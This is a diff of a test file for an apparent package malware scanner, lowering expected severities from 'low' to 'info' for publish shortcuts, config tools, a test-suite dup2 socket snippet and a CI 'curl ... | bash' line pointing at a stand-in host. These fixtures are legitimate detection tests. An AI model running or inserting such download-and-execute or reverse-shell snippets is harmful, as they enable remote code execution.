@@ -162,15 +162,15 @@ def test_version_idiom_is_quiet(tmp_path):
     assert analyze_artifact(_tree(tmp_path, {"setup.py": setup}), "pypi") == []
 
 
-def test_publish_shortcut_is_low(tmp_path):
+def test_publish_shortcut_is_info(tmp_path):
     setup = ("import os, sys\nif sys.argv[-1] == 'publish':\n"
              "    os.system('python setup.py sdist upload')\n    os.system('twine upload dist/*')\n" + SETUP)
-    assert _sev(_scan(tmp_path, {"setup.py": setup}), "setup_process") == {"low"}
+    assert _sev(_scan(tmp_path, {"setup.py": setup}), "setup_process") == {"info"}
 
 
-def test_build_step_running_a_config_tool_is_low(tmp_path):
+def test_build_step_running_a_config_tool_is_info(tmp_path):
     setup = ("import subprocess\nflags = subprocess.check_output(['pkg-config', '--cflags', 'libfoo'])\n" + SETUP)
-    assert _sev(_scan(tmp_path, {"setup.py": setup}), "setup_process") == {"low"}
+    assert _sev(_scan(tmp_path, {"setup.py": setup}), "setup_process") == {"info"}
 
 
 def test_credential_paths_in_tests_and_docs_are_info(tmp_path):
@@ -184,15 +184,15 @@ def test_vendored_code_is_demoted(tmp_path):
     assert _sev(inds, "encoded_exec") <= {"info", "low"}
 
 
-def test_dup2_in_a_test_suite_is_low(tmp_path):
+def test_dup2_in_a_test_suite_is_info(tmp_path):
     src = "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n"
-    assert _sev(_scan(tmp_path, {"tests/test_io.py": src}), "reverse_shell") == {"low"}
+    assert _sev(_scan(tmp_path, {"tests/test_io.py": src}), "reverse_shell") == {"info"}
     assert _sev(_scan(tmp_path / "b", {"ok/shell.py": src}), "reverse_shell") == {"critical"}
 
 
-def test_curl_pipe_bash_in_ci_script_is_low(tmp_path):
+def test_curl_pipe_bash_in_ci_script_is_info(tmp_path):
     files = {".github/install.sh": "curl -s https://get.example.invalid | bash\n"}
-    assert _sev(_scan(tmp_path, files), "download_execute") == {"low"}
+    assert _sev(_scan(tmp_path, files), "download_execute") == {"info"}
 
 
 def test_file_roles():
@@ -249,4 +249,4 @@ def test_command_built_in_a_variable_then_run_at_build_time(tmp_path):
              "subprocess.run(cmd, shell=True)\n" + SETUP)
     assert _sev(_scan(tmp_path, {"setup.py": setup}), "setup_process") == {"high"}
     config = "import subprocess\nsubprocess.check_output(['curl-config', '--libs'])\n" + SETUP
-    assert _sev(_scan(tmp_path / "b", {"setup.py": config}), "setup_process") == {"low"}
+    assert _sev(_scan(tmp_path / "b", {"setup.py": config}), "setup_process") == {"info"}
